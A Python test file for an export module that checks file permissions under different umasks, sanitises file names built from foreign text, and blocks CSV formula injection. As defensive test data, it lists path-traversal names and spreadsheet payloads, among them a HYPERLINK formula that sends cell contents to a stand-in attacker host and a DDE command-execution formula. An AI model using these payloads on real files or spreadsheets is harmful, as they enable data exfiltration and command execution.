"""What export writes into: names made from foreign text, modes under a umask, cells that spreadsheets do not run."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from smarter.export.files import cell, csv_text, replacing
from smarter.export.naming import file_name
from smarter.export.scenario_file import save_scenario
from smarter.tui.page import Exported


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture(params=[0o077, 0o027, 0o022], ids=oct)
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    before = os.umask(request.param)
    yield request.param
    os.umask(before)


# Modes.


def test_a_file_is_for_no_more_readers_than_the_umask_says(umask: int, tmp_path: Path) -> None:
    with replacing(tmp_path / "open.csv") as file:
        assert {mode(path) for path in tmp_path.iterdir()} == {0o666 & ~umask}, "while it is written, too"
        file.write("x")
    with replacing(tmp_path / "private.csv", 0o600) as file:
        file.write("x")
    save_scenario(tmp_path / "street.yaml", "version: 1\n")
    modes = {path.name: mode(path) for path in tmp_path.iterdir()}
    assert modes == {"open.csv": 0o666 & ~umask, "private.csv": 0o600, "street.yaml": 0o666 & ~umask}


def test_a_scenario_that_is_private_is_so_while_it_is_saved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "street.yaml"
    path.touch(0o600)
    seen = []
    replace = Path.replace

    def looked_at(temporary: Path, target: Path) -> Path:
        seen.append(mode(temporary))
        return replace(temporary, target)

    monkeypatch.setattr(Path, "replace", looked_at)
    save_scenario(path, "version: 1\n", over="")
    assert (seen, mode(path)) == ([0o600], 0o600)


def test_what_stops_half_way_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(ZeroDivisionError), replacing(tmp_path / "open.csv"):
        raise ZeroDivisionError
    assert list(tmp_path.iterdir()) == []


# Names.

HOSTILE = (
    "../../etc/cron.d/evil",
    "/etc/passwd",
    "..",
    ".",
    "",
    ".bashrc",
    "-rf",
    "a\\b\\..\\c",
    "c:evil",
    "nul",
    "COM1.tar.csv",
    "a\x00b\nc\x1b]52;c;eA==\x07",
    "\u202egpj.exe",
    "é" * 400,
    "x." + "y" * 400,
    " ... ",
)


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_a_name_from_foreign_text_stays_in_its_folder(text: str, tmp_path: Path) -> None:
    folder = tmp_path / "desk"
    folder.mkdir()
    for name in (text, f"follow-{text}-2016.json", f"{text}.csv"):
        safe = file_name(name)
        assert re.fullmatch(r"[\w+][\w+. -]*", safe), safe
        assert file_name(safe) == safe
        written = Exported(name, "x").write(folder)
        again = Exported(name, "x").write(folder)
        assert (written.parent, again.parent) == (folder, folder)
        assert written != again
    assert [path.name for path in tmp_path.iterdir()] == ["desk"]


@pytest.mark.parametrize(
    "name", ["follow-apt1-2016-01-04-1752.json", "demand-maple-street-days.csv", "log-Straße 3 +1.txt", "own.tar.gz"]
)
def test_a_plain_name_stays_as_it_is(name: str) -> None:
    assert file_name(name) == name


def test_a_browser_is_handed_the_same_safe_name() -> None:
    assert Exported("follow-../../evil.json", "").name == "follow-..-..-evil.json"


# Cells.


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"bill")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "apt3;=1+1",
        "apt3\t=1+1",
        "apt3\n=1+1",
        "apt3\r=1+1",
        "apt3\r\n=1+1,2",
        "\uff1d1+1",
        "-1 000",
    ],
)
def test_no_text_begins_a_formula_in_a_spreadsheet(text: str) -> None:
    written = csv_text(("meter", text), [("apt1", text)])
    for row in csv.reader(io.StringIO(written, newline="")):
        for part in re.split(r"[;\t\r\n]", row[1]):
            assert not re.match(r"\s*[=+\-@\uff1d]", part), written
        assert row[1].replace("'", "") == text.replace("'", "").replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("number", ["-12.345", "+3", "0.000", "-1", "1e-5", "-2.5E+10", -7, 2.5, None, True])
def test_numbers_stay_exact(number: object) -> None:
    assert cell(number) is number


@pytest.mark.parametrize("text", ["", "apt3", "2016-01-01T00:00:00+01:00", "a-b=c", "it is; not =", "user@example.org"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text
